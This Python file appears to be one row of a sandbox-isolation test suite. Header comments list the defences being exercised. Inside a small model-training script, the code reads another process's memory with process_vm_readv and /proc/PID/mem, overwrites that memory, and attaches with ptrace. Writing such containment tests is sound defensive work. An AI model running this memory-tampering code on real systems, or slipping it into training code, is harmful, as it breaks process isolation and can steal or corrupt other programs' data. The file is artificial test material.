# row: 24
# attempts: reads another process by process_vm_readv, /proc/PID/mem and ptrace
# expects: ok
# defence: seccomp, process namespace, Landlock, no capabilities
# off: seccomp namespaces landlock mount capabilities
import ctypes

import torch
from torch import nn

from prepare import Tokenizer, evaluate_bpb

tokenizer = Tokenizer.from_directory()
model = nn.Sequential(nn.Embedding(256, 16), nn.Linear(16, 256))
optimizer = torch.optim.AdamW(model.parameters(), lr=1e-2)
libc = ctypes.CDLL(None, use_errno=True)
pid, address, size = int("<victim>"), int("<address>"), 40


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


seen = ctypes.create_string_buffer(size)
libc.process_vm_readv(pid, ctypes.byref(Part(ctypes.addressof(seen), size)), 1, ctypes.byref(Part(address, size)), 1, 0)
print(seen.raw)
try:
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(address)
        print(memory.read(size))
        memory.seek(address)
        memory.write(b"overwritten")
except OSError:
    pass
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace(16, pid, None, None)
evaluate_bpb(model, tokenizer, 8)
